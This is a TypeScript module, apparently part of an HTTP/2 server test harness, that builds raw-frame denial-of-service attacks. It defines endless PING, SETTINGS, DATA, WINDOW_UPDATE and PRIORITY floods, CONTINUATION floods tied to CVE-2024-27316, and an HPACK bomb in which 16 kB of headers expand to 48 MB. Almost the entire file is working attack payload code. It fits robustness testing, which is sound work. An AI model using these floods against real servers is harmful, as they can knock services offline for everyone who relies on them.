import { callBlock, END_HEADERS, FRAME_BYTES, frame, literal, setting, Type, uint32 } from '../frames.js';
import { rawAttack } from '../raw-attack.js';

/** The same chunk for ever, after a first one. */
function* endless(one: Buffer, first?: Buffer): Generator<Buffer> {
  if (first) yield first;
  const chunk = Buffer.concat(Array<Buffer>(Math.ceil(FRAME_BYTES / one.length)).fill(one));
  while (true) yield chunk;
}

const call = frame(Type.HEADERS, END_HEADERS, 1, callBlock());
const ping = frame(Type.PING, 0, 0, Buffer.alloc(8));
const settings = frame(Type.SETTINGS, 0, 0, setting(3, 100));

export const pingFlood = rawAttack({ name: 'PING flood', bytes: () => endless(ping) });
/** The answers pile up in the server. */
export const unreadPings = rawAttack({ name: 'unread PING flood', deaf: true, bytes: () => endless(ping) });
export const settingsFlood = rawAttack({ name: 'SETTINGS flood', bytes: () => endless(settings) });
export const emptyDataFlood = rawAttack({
  name: 'empty DATA flood',
  bytes: () => endless(frame(Type.DATA, 0, 1), call),
});
export const windowUpdateFlood = rawAttack({
  name: 'WINDOW_UPDATE flood',
  bytes: () => endless(frame(Type.WINDOW_UPDATE, 0, 1, uint32(1)), call),
});
export const priorityFlood = rawAttack({
  name: 'PRIORITY flood',
  bytes: () => endless(frame(Type.PRIORITY, 0, 3, Buffer.from([0, 0, 0, 1, 16]))),
});

const unfinishedHeaders = frame(Type.HEADERS, 0, 1, callBlock());

/** CVE-2024-27316 and its kin. */
export const continuationFlood = rawAttack({
  name: 'CONTINUATION flood',
  bytes: () => endless(frame(Type.CONTINUATION, 0, 1, literal('x-more', 'x'.repeat(16_000))), unfinishedHeaders),
});
export const emptyContinuationFlood = rawAttack({
  name: 'empty CONTINUATION flood',
  bytes: () => endless(frame(Type.CONTINUATION, 0, 1), unfinishedHeaders),
});

/** 12,000 references to one field of 4 kB: 16 kB of HEADERS that mean 48 MB. */
function* bombs(): Generator<Buffer> {
  const NEWEST_FIELD = 0xbe;
  const block = Buffer.concat([
    callBlock(),
    literal('x-bomb', 'x'.repeat(4_000), true),
    Buffer.alloc(12_000, NEWEST_FIELD),
  ]);
  for (let id = 1; ; id += 2) yield frame(Type.HEADERS, END_HEADERS, id, block);
}
export const hpackBomb = rawAttack({ name: 'HPACK bomb', bytes: bombs });
